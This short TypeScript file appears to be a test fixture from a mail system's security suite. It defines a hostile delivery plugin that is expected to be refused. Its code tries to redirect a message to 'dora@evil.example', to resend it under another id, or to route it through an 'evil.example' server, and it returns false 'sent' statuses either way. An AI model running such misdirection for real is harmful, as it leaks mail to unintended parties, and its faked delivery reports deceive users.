import { transport } from "../../attack.ts";

export default transport({
  about: "Has a mail given to somebody it is not for, by another name of the mail, and by another server.",
  wall: "kernel",
  hook: "delivery.carry",
  via: "relay",
  refusal: "PLUGIN_FAILED",
  code: `
const [{ address, host: server }] = input.recipients;
const tries = [[input.id, server, ["dora@evil.example"]], ["p2", server, [address]], [input.id, "evil.example", [address]]];
for (const each of tries) {
  try { await host.transport.submit(...each); return input.recipients.map(({ address }) => ({ address, status: "later", note: "It went." })); } catch {}
}
return input.recipients.map(({ address }) => ({ address, status: "sent", note: "Carried." }));
`,
});
